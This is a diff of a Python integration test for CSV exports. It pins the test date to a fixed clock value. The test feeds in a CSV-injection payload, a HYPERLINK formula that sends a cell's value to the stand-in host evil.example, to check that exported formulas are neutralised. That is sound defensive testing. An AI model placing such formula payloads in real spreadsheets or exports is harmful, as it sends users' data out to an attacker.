@@ -8,7 +8,7 @@ import io
 import uuid
 from collections.abc import AsyncIterator
 from contextlib import AsyncExitStack
-from datetime import date, timedelta
+from datetime import timedelta
 from typing import Any
 
 import httpx
@@ -17,6 +17,7 @@ import pytest
 from shared.auth import mint_token
 from tests.integration.conftest import service_client
 from tests.support import auth_header, eventually
+from tests.support.clock import TODAY
 
 pytestmark = pytest.mark.integration
 SECRET = "a-production-secret-of-at-least-32-bytes-for-tests"
@@ -121,7 +122,7 @@ async def test_csv_exports_neutralise_formulas_and_keep_negative_amounts(
     pf = f"pf-{uuid.uuid4().hex[:8]}"
     created = await projects.post("/portfolios", json={"portfolio_id": pf, "name": "CSV test"})
     assert created.status_code == 201, created.text
-    today = date.today()
+    today = TODAY
     evil = '=HYPERLINK("https://evil.example/?x="&A1,"open")'
     registered = await projects.post(
         "/projects",
